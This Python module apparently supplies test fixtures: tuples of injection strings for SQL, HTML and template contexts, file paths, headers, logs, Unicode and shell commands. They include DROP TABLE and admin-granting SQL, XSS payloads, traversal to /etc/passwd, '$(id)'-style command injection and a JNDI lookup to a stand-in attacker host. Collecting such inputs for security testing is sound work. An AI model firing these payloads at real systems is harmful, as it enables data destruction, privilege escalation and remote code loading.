"""Text that would be more than text somewhere: in SQL, in a page, in a path, in a header, in a log, in a format."""

from __future__ import annotations

FORGED = "FORGED-LINE"
HEADER = "X-Injected"

SQL = (
    "'", "''", "' OR '1'='1", "' OR 1=1--", '" OR ""="', "') OR ('1'='1", "1; DROP TABLE tasks;--",
    "'; DROP TABLE accounts CASCADE;--", "'; UPDATE accounts SET role='admin';--",
    "' UNION SELECT id, email FROM accounts--",
    "'; INSERT INTO accounts (id) VALUES (gen_random_uuid());--", "1 AND (SELECT pg_sleep(5)) IS NULL", "%",
    "_%_", "\\",
    "$$; TRUNCATE meetings; $$", "'||(SELECT version())||'", ":param", "%(name)s", "{}", "/**/OR/**/1=1", "0x27",
)  # fmt: skip
PAGES = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)",
    "</title><script>1</script>", "<<script>script>alert(1)<</script>/script>", "&lt;script&gt;", "{{7*7}}", "${7*7}",
    "<iframe src=//evil.example>", "<a href='javascript:1'>x</a>", "\"><b onmouseover=1>", "<!--", "]]>",
)  # fmt: skip
PATHS = (
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd", "file:///etc/passwd", "/proc/self/environ", ".env", "~root", "a.wav/../../b",
)  # fmt: skip
LINES = (
    f"x\r\n{HEADER}: 1", f"x\n{HEADER}: 1", f"x%0d%0a{HEADER}:%201", f'x\n{{"event":"{FORGED}"}}', f"x\n{FORGED}",
    "\x1b[31mred\x1b[0m", "x\r\n\r\n<html>", "\u2028line\u2029", "a\x85b",
)  # fmt: skip
UNICODE = (
    "\x00", "a\x00b", "\ud800", "\udfff\ud800", "\u202e\u2066txt.exe", "\ufeff", "\u200b\u200d",
    "e\u0301" * 40, "\U0001f3a4" * 60, "İıſß", "\uffff", "ﷺ" * 60, "\u0000' OR 1=1--", "A" * 5000, "𝕒𝕕𝕞𝕚𝕟",
)  # fmt: skip
COMMANDS = ("; cat /etc/passwd", "$(id)", "`id`", "| id", "& ping -c 9 127.0.0.1 &", "${jndi:ldap://evil.example/a}")

EVERYTHING = (*SQL, *PAGES, *PATHS, *LINES, *UNICODE, *COMMANDS)
